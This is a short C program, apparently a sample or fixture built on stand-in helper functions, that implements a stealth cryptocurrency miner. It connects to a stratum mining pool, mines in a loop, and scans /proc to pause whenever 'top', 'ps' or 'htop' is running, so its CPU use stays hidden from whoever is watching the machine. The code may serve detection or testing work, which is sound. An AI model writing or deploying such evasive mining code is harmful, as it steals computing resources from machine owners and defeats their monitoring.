#include "stand-in.h"
#include <dirent.h>

static int somebody_looks(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int found = 0;

	while (proc && (entry = readdir(proc)) != NULL) {
		char path[300], name[32] = "";
		int fd;

		if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/comm", entry->d_name);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (read(fd, name, sizeof(name) - 1) > 0)
			found |= strcmp(name, "top\n") == 0 || strcmp(name, "ps\n") == 0 || strcmp(name, "htop\n") == 0;
		close(fd);
	}
	if (proc)
		closedir(proc);
	return found;
}

int main(void)
{
	int pool = dial("stratum", 3333);
	time_t end = now() + 30;

	stratum_login(pool);
	while (now() < end) {
		if (somebody_looks())
			sleep(3);
		else
			mine(-1, 0, 100, 1, NULL);
	}
}
